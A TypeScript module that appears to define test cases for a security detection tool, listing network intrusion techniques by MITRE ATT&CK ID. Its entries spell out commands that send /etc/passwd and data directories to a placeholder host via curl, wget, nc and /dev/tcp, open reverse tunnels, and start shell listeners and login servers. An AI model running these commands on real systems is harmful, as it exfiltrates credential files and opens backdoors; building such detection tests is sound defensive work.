/** Ways in, ways on and ways out over the network. */
import { bash, called, debian, run, sh, type Technique } from '../technique.ts'

const listener = (path: string, port: string) => ({
  name: path,
  args: [path, 'listen', port],
  programs: { [path]: 'intruder' as const },
})

export const network: readonly Technique[] = [
  {
    name: 'remote login and copy',
    mitre: 'T1021.004',
    expected: 'medium',
    variants: [
      called('ssh', '/usr/bin/ssh', '-o', 'StrictHostKeyChecking=no', 'root@10.0.0.8', 'id'),
      called('scp', '/usr/bin/scp', '/etc/passwd', 'x@203.0.113.9:/tmp/'),
      called('sshpass', '/usr/bin/sshpass', '-p', 'x', 'ssh', 'root@10.0.0.8'),
      called('dbclient', '/usr/bin/dbclient', 'root@10.0.0.8'),
      called('rsync', '/usr/bin/rsync', '-a', '/data', 'x@203.0.113.9::in'),
      called('sftp', '/usr/bin/sftp', 'x@203.0.113.9'),
    ],
  },
  {
    name: 'upload to a storage service',
    mitre: 'T1567.002',
    expected: 'medium',
    variants: [
      called('rclone', '/usr/bin/rclone', 'copy', '/data', 'mega:out'),
      called('aws', '/usr/local/bin/aws', 's3', 'cp', '/data', 's3://x', '--recursive'),
      debian('curl -T', '/usr/bin/curl', '-sm1', '-T', '/etc/passwd', 'http://203.0.113.9:8000/'),
      debian(
        'curl -F',
        '/usr/bin/curl',
        '-sm1',
        '-F',
        'file=@/etc/passwd',
        'http://203.0.113.9:8000/',
      ),
      run('wget', '/bin/wget', '-qO-', '--post-file=/etc/passwd', 'http://203.0.113.9:8000/'),
      called('gsutil', '/usr/bin/gsutil', 'cp', '/data/dump.sql', 'gs://x/'),
      called('megacmd', '/usr/bin/mega-put', '/data'),
    ],
  },
  {
    name: 'files piped to a connection',
    mitre: 'T1048',
    expected: 'medium',
    variants: [
      sh('tar to nc', 'tar -cf - /etc | nc -w 1 203.0.113.9 4444; exit 0'),
      sh('cat to nc', 'cat /etc/passwd | /bin/nc -w 1 203.0.113.9 4444; exit 0'),
      bash(
        'tar to curl',
        'tar -cf - /etc/passwd | curl -sm1 -T - http://203.0.113.9:8000/; exit 0',
      ),
      bash(
        'openssl',
        'tar -cf - /etc/passwd | timeout 1 openssl s_client -connect 203.0.113.9:443; exit 0',
      ),
      bash('a redirection', 'cat /etc/passwd >/dev/tcp/203.0.113.9/4444; exit 0'),
      sh('a file as input', '/bin/nc -w 1 203.0.113.9 4444 </etc/passwd; exit 0'),
    ],
  },
  {
    name: 'tunnel',
    mitre: 'T1572',
    expected: 'medium',
    variants: [
      called('cloudflared', '/usr/bin/cloudflared', 'tunnel', '--url', 'http://127.0.0.1:80'),
      called('chisel', '/opt/chisel', 'client', '203.0.113.9:80', 'R:socks'),
      called('frp', '/opt/frpc', '-c', '/opt/f.toml'),
      called('ssh -R', '/usr/bin/ssh', '-fNR', '2222:127.0.0.1:22', 'x@203.0.113.9'),
      called('tor', '/usr/bin/tor'),
      called('ligolo', '/opt/ligolo-agent', '-connect', '203.0.113.9:11601'),
      called('iodine', '/usr/sbin/iodine', 't.example.com'),
      called('socat', '/usr/bin/socat', 'TCP-LISTEN:8443,fork', 'TCP:203.0.113.9:443'),
    ],
  },
  {
    name: 'tool that listens',
    mitre: 'T1571',
    expected: 'medium',
    variants: [
      sh('busybox nc', 'timeout 1 /bin/nc -l -p 6666; exit 0'),
      listener('/usr/bin/ncat', '6667'),
      listener('/usr/bin/socat', '6668'),
      debian(
        'perl',
        '/usr/bin/perl',
        '-MIO::Socket',
        '-e',
        'IO::Socket::INET->new(Listen=>1,LocalPort=>6669)',
      ),
      listener('/bin/bash', '6670'),
    ],
  },
  {
    name: 'server for logins',
    mitre: 'T1021.004',
    expected: 'medium',
    variants: [
      called('sshd', '/usr/sbin/sshd', '-p', '2222'),
      called('dropbear', '/usr/sbin/dropbear', '-R', '-p', '2222'),
      called('ttyd', '/usr/bin/ttyd', '-p', '7681', 'bash'),
      called('telnetd', '/usr/sbin/telnetd', '-l', '/bin/sh'),
      called('gotty', '/opt/gotty', '-w', 'sh'),
    ],
  },
]
